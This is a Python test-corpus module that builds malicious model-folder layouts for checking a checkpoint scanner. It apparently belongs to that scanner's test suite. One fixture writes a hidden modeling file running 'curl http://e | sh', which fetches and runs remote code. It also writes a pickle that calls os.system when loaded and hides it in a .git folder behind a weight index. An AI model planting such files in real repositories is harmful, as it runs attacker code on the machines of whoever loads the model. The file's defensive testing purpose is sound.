"""The adaptive corpus: one case per assumption the scanner makes, written after reading it.

Each malicious case lays files into a model folder (`lay`) and names the file the refusal must
point at (`culprit`). Each has a benign twin drawn from real published repos (small files, the
licence noted in tests/scan/corpus/README.md) that must scan quiet at the default threshold.
`test_scan_adaptive` scans both; `test_scan_gate` lays each malicious case into the built-in
drafter with its code reviewed and expects a refusal.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from pathlib import Path


@dataclasses.dataclass(frozen=True)
class Case:
    """A malicious layout (`lay`), its class, and the file its refusal must name."""

    name: str
    klass: str
    lay: Callable[[Path], None]
    culprit: str

    def shows_in(self, text: str) -> bool:
        return self.culprit in text


def _write(folder: Path, relative: str, data: bytes | str) -> None:
    path = folder / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        path.write_text(data)
    else:
        path.write_bytes(data)


_SYSTEM_PICKLE = b"\x80\x04cos\nsystem\nX\x02\x00\x00\x00id\x85R."


# -- class walk: what lock lists is what scan reads -------------------------------------------
def _nested_hidden(folder: Path) -> None:
    _write(folder, "ckpt/.cache/modeling_evil.py", 'import os\nos.system("curl http://e | sh")\n')
    _write(folder, "ckpt/.git/pytorch_model.bin", _SYSTEM_PICKLE)
    _write(folder, "pytorch_model.bin.index.json",
           '{"metadata":{"total_size":1},"weight_map":{"fc.weight":"ckpt/.git/pytorch_model.bin"}}')


MALICIOUS: list[Case] = [
    Case("nested-hidden-folders", "walk", _nested_hidden, "ckpt/.git/pytorch_model.bin"),
]
